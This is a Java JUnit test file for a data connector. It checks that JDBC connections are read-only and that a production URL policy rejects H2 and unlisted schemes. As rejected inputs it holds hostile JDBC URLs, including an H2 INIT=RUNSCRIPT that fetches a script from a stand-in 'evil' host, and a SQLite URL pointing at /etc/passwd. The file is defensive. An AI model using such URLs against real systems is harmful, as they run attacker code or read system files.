package io.datarun.connectors.jdbc;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.datarun.connectors.declaration.JdbcSource;
import io.datarun.connectors.declaration.Polling;
import java.sql.Connection;
import java.sql.SQLException;
import java.sql.Statement;
import java.time.Duration;
import java.time.ZoneId;
import java.util.List;
import java.util.Optional;
import org.junit.jupiter.api.Test;

/**
 * Issue 12, finding 12: a connector reads its department's database and can do nothing else there —
 * its connections are read-only (checked on the real PostgreSQL and MariaDB) — and in production a
 * JDBC URL must use an allowed scheme, so an H2 URL cannot run code ({@code INIT=}) on the runtime.
 */
class JdbcSourceSafetyTest {

    static JdbcSource source(String url, String user) {
        return new JdbcSource(url, Optional.of(user), Optional.empty(), Optional.of("t"), Optional.empty(),
                new JdbcSource.Watermark("updated_at", "id"), new Polling(100, Duration.ofSeconds(1), ZoneId.of("Asia/Shanghai")));
    }

    @Test
    void whenTheConnectorWritesThroughItsPostgresConnectionThenTheDatabaseRefuses() throws SQLException {
        try (Connection connection = DataSources.create(source("jdbc:postgresql://127.0.0.1:5432/postgres", "postgres"),
                getClass().getClassLoader()).getConnection(); Statement statement = connection.createStatement()) {
            assertThat(connection.isReadOnly()).isTrue();
            assertThatThrownBy(() -> statement.execute("CREATE TABLE datarun_readonly_probe (id int)"))
                    .isInstanceOf(SQLException.class).hasMessageContaining("read-only");
        }
    }

    @Test
    void whenTheConnectorWritesThroughItsMariaDbConnectionThenTheDatabaseRefuses() throws SQLException {
        try (Connection connection = DataSources.create(source("jdbc:mariadb://127.0.0.1:3306/mysql", "root"),
                getClass().getClassLoader()).getConnection(); Statement statement = connection.createStatement()) {
            statement.execute("CREATE DATABASE IF NOT EXISTS datarun_probe");
            assertThatThrownBy(() -> statement.execute("CREATE TABLE datarun_probe.readonly_probe_" + System.nanoTime()
                    + " (id int)")).isInstanceOf(SQLException.class);
        } catch (SQLException e) {
            // CREATE DATABASE itself refused is the same proof: nothing can be written
            assertThat(e.getMessage()).containsIgnoringCase("read");
        }
    }

    @Test
    void whenAProductionRuntimeMeetsAnH2OrUnknownUrlThenItRefusesToStartIt() {
        JdbcUrlPolicy production = JdbcUrlPolicy.forProfiles(List.of("prod"), Optional.empty());
        production.check("jdbc:postgresql://db:5432/hr");
        production.check("jdbc:mariadb://db:3306/civil");
        assertThatThrownBy(() -> production.check("jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil/x.sql'"))
                .isInstanceOf(IllegalArgumentException.class).hasMessageContaining("INIT");
        assertThatThrownBy(() -> production.check("jdbc:h2:file:/srv/registry"))
                .isInstanceOf(IllegalArgumentException.class).hasMessageContaining("'h2'")
                .hasMessageContaining("datarun.connectors.jdbc-url-schemes");
        assertThatThrownBy(() -> production.check("jdbc:sqlite:/etc/passwd")).isInstanceOf(IllegalArgumentException.class);

        JdbcUrlPolicy demo = JdbcUrlPolicy.forProfiles(List.of("demo"), Optional.empty());
        demo.check("jdbc:h2:file:./data/demo/registry");
        assertThatThrownBy(() -> demo.check("jdbc:h2:mem:x;init=RUNSCRIPT FROM 'x.sql'"))
                .as("INIT runs code even on a developer's machine").isInstanceOf(IllegalArgumentException.class);
        JdbcUrlPolicy widened = JdbcUrlPolicy.forProfiles(List.of("prod"), Optional.of(List.of("oracle")));
        widened.check("jdbc:oracle:thin:@db:1521/x");
        assertThatThrownBy(() -> widened.check("jdbc:postgresql://db/x")).isInstanceOf(IllegalArgumentException.class);
    }
}
